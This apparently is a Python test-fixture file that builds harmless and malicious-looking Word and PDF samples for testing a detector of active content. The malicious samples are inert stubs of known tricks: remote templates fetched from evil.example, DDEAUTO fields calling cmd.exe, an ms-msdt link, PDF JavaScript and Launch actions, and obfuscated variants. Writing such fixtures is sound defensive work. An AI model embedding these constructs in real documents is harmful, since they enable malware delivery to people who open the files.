"""Documents that do something by themselves, and their harmless likes, made here part by part."""

import zlib

from tests.factories.files import word

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def rels(*rows):
    """A list of relationships: (kind, target, mode)."""
    made = "".join(
        f'<Relationship Id="rId{n}" Type="{kind if kind.startswith("http") else f"{REL}/{kind}"}" '
        f'Target="{target}"{f" TargetMode={chr(34)}{mode}{chr(34)}" if mode else ""}/>'
        for n, (kind, target, mode) in enumerate(rows)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{made}</Relationships>'
    )


def kinds(kind):
    return f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'


def text(*pieces):
    return f"<w:document {W}><w:body><w:p>{''.join(pieces)}</w:p></w:body></w:document>"


def field(*pieces):
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return begin + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces) + end


def docx(document=None, **parts):
    """`parts`: slashes and dots as they are, by `**{...}`."""
    return word(**({"word/document.xml": document} if document else {}), **parts)


MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELS = "word/_rels/document.xml.rels"
HARMLESS_WORD = {
    "plain": docx(),
    "its own lists": docx(
        **{
            RELS: rels(("styles", "styles.xml", ""), ("theme", "/word/theme/theme1.xml", "")),
            "_rels/.rels": rels(("officeDocument", "word/document.xml", "")),
        }
    ),
    "a web link": docx(**{RELS: rels(("hyperlink", "https://council.example/letter", "External"))}),
    "a mail link": docx(**{RELS: rels(("hyperlink", "mailto:duty@council.example", "External"))}),
    "a link to a network drive": docx(**{RELS: rels(("hyperlink", "file:///S:/Team/Plan.docx", "External"))}),
    "a picture": docx(**{RELS: rels(("image", "media/image1.png", "")), "word/media/image1.png": "x"}),
    "a page number": docx(text(field(" PAGE "), '<w:fldSimple w:instr=" NUMPAGES "/>')),
    "a link in a field": docx(text(field(' HYPERLINK "https://a.example/dde link"'))),
    "talk of links": docx(text("<w:r><w:t>LINK DDEAUTO INCLUDETEXT</w:t></w:r>")),
    "its right kind": docx(**{"[Content_Types].xml": kinds(MAIN)}),
    "fonts and headers": docx(
        **{
            "word/fonts/font1.odttf": "x",
            "word/header1.xml": f"<w:hdr {W}/>",
            "word/_rels/header1.xml.rels": rels(("image", "media/a.png", "")),
        }
    ),
}
AN_OBJECT = "another file inside it"
A_PROGRAM = "has a program in it"
MACROS = "with macros, which are programs"
FETCHES = "fetches something from elsewhere"
HARMFUL_WORD = {
    "a template on the web": (
        docx(**{"word/_rels/settings.xml.rels": rels(("attachedTemplate", "https://evil.example/t.dotm", "External"))}),
        FETCHES,
    ),
    "a template on a share": (
        docx(
            **{"word/_rels/settings.xml.rels": rels(("attachedTemplate", "file:////evil.example/t.dotm", "External"))}
        ),
        FETCHES,
    ),
    "a template, oddly cased": (
        docx(**{"Word/_RELS/Settings.XML.Rels": rels(("ATTACHEDTEMPLATE", "HTTPS://evil.example/t", "eXTERNAL"))}),
        FETCHES,
    ),
    "a picture on the web": (docx(**{RELS: rels(("image", "http://evil.example/p.png", "External"))}), FETCHES),
    "a picture in a header": (
        docx(**{"word/_rels/header2.xml.rels": rels(("image", "//evil.example/p.png", "External"))}),
        FETCHES,
    ),
    "a picture in a footer": (
        docx(**{"word/_rels/footer1.xml.rels": rels(("image", "\\\\evil.example\\p.png", "External"))}),
        FETCHES,
    ),
    "one that only seems inside": (docx(**{RELS: rels(("image", "https://evil.example/p.png", ""))}), FETCHES),
    "a frame": (
        docx(**{"word/_rels/webSettings.xml.rels": rels(("frame", "https://evil.example/", "External"))}),
        FETCHES,
    ),
    "a document below": (docx(**{RELS: rels(("subDocument", "part2.docx", "External"))}), FETCHES),
    "a link that runs": (docx(**{RELS: rels(("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"))}), FETCHES),
    "a link that is a script": (docx(**{RELS: rels(("hyperlink", " JavaScript:alert(1)", "External"))}), FETCHES),
    "an object on the web": (
        docx(**{RELS: rels(("oleObject", "https://evil.example/x.html!", "External"))}),
        AN_OBJECT,
    ),
    "an object inside": (docx(**{"word/embeddings/oleObject1.bin": "x"}), AN_OBJECT),
    "an object under another name": (
        docx(**{RELS: rels(("oleObject", "media/pic.bin", "")), "word/media/pic.bin": "x"}),
        AN_OBJECT,
    ),
    "an object by its kind": (
        docx(**{"[Content_Types].xml": kinds("application/vnd.openxmlformats-officedocument.oleObject")}),
        AN_OBJECT,
    ),
    "a sheet inside": (docx(**{"word/embeddings/Microsoft_Excel_Sheet.xlsx": "x"}), AN_OBJECT),
    "a piece of another kind": (docx(**{RELS: rels(("aFChunk", "chunk.dat", ""))}), AN_OBJECT),
    "a web page inside": (docx(**{"word/afchunk.htm": "<script>1</script>"}), AN_OBJECT),
    "rich text inside": (docx(**{"word/a.RTF": "x"}), AN_OBJECT),
    "a macro": (docx(**{"word/vbaProject.bin": "x"}), A_PROGRAM),
    "a macro, oddly cased": (docx(**{"WORD/VBAPROJECT.BIN": "x"}), A_PROGRAM),
    "a macro, backslashed": (docx(**{"word\\vbaProject.bin": "x"}), A_PROGRAM),
    "a macro under another name": (docx(**{RELS: rels((f"{MS}/vbaProject", "media/a.dat", ""))}), A_PROGRAM),
    "a docm that was renamed": (
        docx(**{"[Content_Types].xml": kinds("application/vnd.ms-word.document.macroEnabled.main+xml")}),
        MACROS,
    ),
    "a dotm that was renamed": (
        docx(**{"[Content_Types].xml": kinds("application/vnd.ms-word.template.MACROENABLEDTEMPLATE.main+xml")}),
        MACROS,
    ),
    "a control": (docx(**{RELS: rels(("control", "activeX/activeX1.xml", ""))}), A_PROGRAM),
    "a control by its part": (docx(**{"word/activeX/activeX12.xml": "<x/>"}), A_PROGRAM),
    "a program beside": (docx(**{"word/media/run.exe": "x"}), A_PROGRAM),
    "DDE": (docx(text(field(" DDEAUTO c:\\\\windows\\\\cmd.exe "))), FETCHES),
    "DDE in pieces": (docx(text(field(" D", "DE", "AUTO calc"))), FETCHES),
    "DDE in small letters": (docx(text(field("dde calc"))), FETCHES),
    "DDE in one": (docx(text('<w:fldSimple w:instr=" DDE calc "/>')), FETCHES),
    "DDE in a header": (docx(**{"word/header1.xml": text(field("DDEAUTO x"))}), FETCHES),
    "DDE within another field": (docx(text(field(" IF 1 = 1 ") + field(" DDEAUTO x "))), FETCHES),
    "spelt in numbers": (docx(text(field(" QUOTE 68 68 69 65 "))), FETCHES),
    "a text from elsewhere": (docx(text(field(' INCLUDETEXT "https://evil.example/x"'))), FETCHES),
    "a picture from elsewhere": (docx(text(field(' INCLUDEPICTURE "https://evil.example/x"'))), FETCHES),
    "in sixteen bits": (
        docx(
            **{RELS: rels(("image", "http://evil.example/p", "External")).replace("UTF-8", "UTF-16").encode("utf-16")}
        ),
        FETCHES,
    ),
    "entities": (docx(**{"word/settings.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "damaged"),
    "broken lists": (docx(**{RELS: "<Relationships"}), "damaged"),
}


def pdf_of(*objects, packed=(), trailer="/Root 1 0 R"):
    """A whole PDF: object 1 is the first of `objects`; those `packed` lie in an object stream with the next numbers."""
    out, where = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in enumerate(objects, 1):
        where[number] = len(out)
        out += b"%d 0 obj\n" % number + (body if isinstance(body, bytes) else body.encode()) + b"\nendobj\n"
    first, holder, size = len(objects) + 1, len(objects) + len(packed) + 1, len(objects) + len(packed) + 3
    if packed:
        offsets, bodies = [], b""
        for number, body in enumerate(packed, first):
            offsets.append(b"%d %d" % (number, len(bodies)))
            bodies += body.encode() + b" "
        head = b" ".join(offsets) + b" "
        held = zlib.compress(head + bodies)
        where[holder] = len(out)
        out += (
            b"%d 0 obj\n<</Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d>>\nstream\n"
            % (holder, len(packed), len(head), len(held))
            + held
            + b"\nendstream\nendobj\n"
        )
    table = len(out)
    rows = b"\0\0\0\0\0\0\0"
    for number in range(1, size):
        if number in where:
            rows += b"\1" + where[number].to_bytes(4, "big") + b"\0\0"
        elif first <= number < holder:
            rows += b"\2" + holder.to_bytes(4, "big") + (number - first).to_bytes(2, "big")
        else:
            rows += b"\1" + table.to_bytes(4, "big") + b"\0\0"
    held = zlib.compress(rows)
    out += (
        (
            b"%d 0 obj\n<</Type /XRef /Size %d /W [1 4 2] %s /Filter /FlateDecode /Length %d>>\nstream\n"
            % (size - 1, size, trailer.encode(), len(held))
        )
        + held
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table
    )
    return bytes(out)


def stream(body, more=""):
    held = zlib.compress(body)
    return b"<</Length %d /Filter /FlateDecode %s>>\nstream\n" % (len(held), more.encode()) + held + b"\nendstream"


PAGES, PAGE = "<</Type /Pages /Kids [3 0 R] /Count 1>>", "<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>>"


def book(catalog="", page="", *more, packed=()):
    return pdf_of(f"<</Type /Catalog /Pages 2 0 R {catalog}>>", PAGES, PAGE[:-2] + page + ">>", *more, packed=packed)


def note(more):
    return f"/Annots [<</Type /Annot /Rect [0 0 9 9] {more}>>]"


HARMLESS_PDF = {
    "plain": book(),
    "opens at a page": book("/OpenAction [3 0 R /Fit]"),
    "opens at a page by an action": book("/OpenAction <</S /GoTo /D [3 0 R /Fit]>>"),
    "a web link": book("", note("/Subtype /Link /A <</S /URI /URI (https://council.example)>>")),
    "a link to a page": book("", note("/Subtype /Link /A <</S /GoTo /D [3 0 R /Fit]>>")),
    "a form": book("/AcroForm <</Fields [] /NeedAppearances true>>"),
    "words about scripts": book("", "/Contents 4 0 R", stream(b"BT (/JavaScript /Launch /JS) Tj ET")),
    "a note": book("", note("/Subtype /Text /Contents (Ask about the /JS)")),
    "packed": book("/Names 4 0 R", "", packed=("<</Dests <</Names []>>>>",)),
    "who made it": pdf_of(
        "<</Type /Catalog /Pages 2 0 R>>",
        PAGES,
        PAGE,
        "<</Title (JavaScript for children)>>",
        trailer="/Root 1 0 R /Info 4 0 R",
    ),
}
SCRIPT, INSIDE = "has a program in it (a script)", "a film or a sound inside it"
ACTS = "by itself when it is opened or clicked"
JS = "<</S /JavaScript /JS (app.alert\\(1\\))>>"
HARMFUL_PDF = {
    "a script at opening": (book(f"/OpenAction {JS}"), SCRIPT),
    "a script by its name": (book("/Names <</JavaScript <</Names [(a) 4 0 R]>>>>", "", JS), SCRIPT),
    "a script at closing": (book(f"/AA <</WC {JS}>>"), SCRIPT),
    "a script on a page": (book("", f"/AA <</O {JS}>>"), SCRIPT),
    "a script on a link": (book("", note(f"/Subtype /Link /A {JS}")), SCRIPT),
    "a script in a packed object": (book("/OpenAction 4 0 R", packed=(JS,)), SCRIPT),
    "a script no page leads to": (book("", "", packed=("<<>>", JS)), SCRIPT),
    "a script as a stream": (
        book("", note("/Subtype /Link /A <</S /JavaScript /JS 4 0 R>>"), stream(b"app.alert(1)")),
        SCRIPT,
    ),
    "a script spelt in numbers": (book("/OpenAction <</S /J#61vaScript /#4aS (x)>>"), SCRIPT),
    "a packed script spelt in numbers": (
        book("/OpenAction 4 0 R", packed=("<</S /J#61v#61Script /J#53 (x)>>",)),
        SCRIPT,
    ),
    "a script after another action": (
        book("/OpenAction 4 0 R", packed=(f"<</S /GoTo /D [3 0 R /Fit] /Next {JS}>>",)),
        SCRIPT,
    ),
    "a form of scripts": (book("/AcroForm <</XFA 4 0 R>>", "", stream(b"<xdp/>")), SCRIPT),
    "a packed form of scripts": (book("/AcroForm 5 0 R", "", stream(b"<xdp/>"), packed=("<</XFA 4 0 R>>",)), SCRIPT),
    "a program that is started": (book("/OpenAction <</S /Launch /F (cmd.exe)>>"), ACTS),
    "a packed start": (book("/OpenAction 4 0 R", packed=("<</S /Launch /Win <</F (cmd.exe)>>>>",)), ACTS),
    "a form that is sent": (book("", note("/Subtype /Widget /A <</S /SubmitForm /F (https://evil.example)>>")), ACTS),
    "a form that is filled": (book("/OpenAction <</S /ImportData /F (x.fdf)>>"), ACTS),
    "another file's page": (book("", note("/Subtype /Link /A <</S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf)>>")), ACTS),
    "a file inside": (book("/Names <</EmbeddedFiles <</Names []>>>>"), INSIDE),
    "a packed file inside": (
        book(
            "/Names 5 0 R",
            "",
            stream(b"MZ"),
            packed=("<</EmbeddedFiles <</Names [(a) <</Type /Filespec /EF <</F 4 0 R>>>>]>>>>",),
        ),
        INSIDE,
    ),
    "a file as a note": (book("/Foo 4 0 R", "", packed=("<</Subtype /FileAttachment /FS <</F (a)>>>>",)), INSIDE),
    "a film": (book("/Foo 4 0 R", "", packed=("<</Subtype /Screen /A <</S /Rendition>>>>",)), INSIDE),
    "a sound": (book("/Foo 4 0 R", "", packed=("<</S /Sound>>",)), INSIDE),
    "something to turn round": (book("/Foo 4 0 R", "", packed=("<</Subtype /3D>>",)), INSIDE),
    "media": (book("/Foo 4 0 R", "", packed=("<</Subtype /RichMedia>>",)), INSIDE),
    "a script behind a broken table": (book(f"/OpenAction {JS}").replace(b"startxref", b"startxxxx"), SCRIPT),
    "a script only another reader would find": (book() + b"9 0 obj <</S /JavaScript /JS (1)>> endobj", SCRIPT),
    "a packed script in an added part": (book() + book("/OpenAction 4 0 R", packed=(JS,)), SCRIPT),
    "no PDF at all": (b"%PDF-1.7\n" + b"\0" * 400, "damaged"),
}
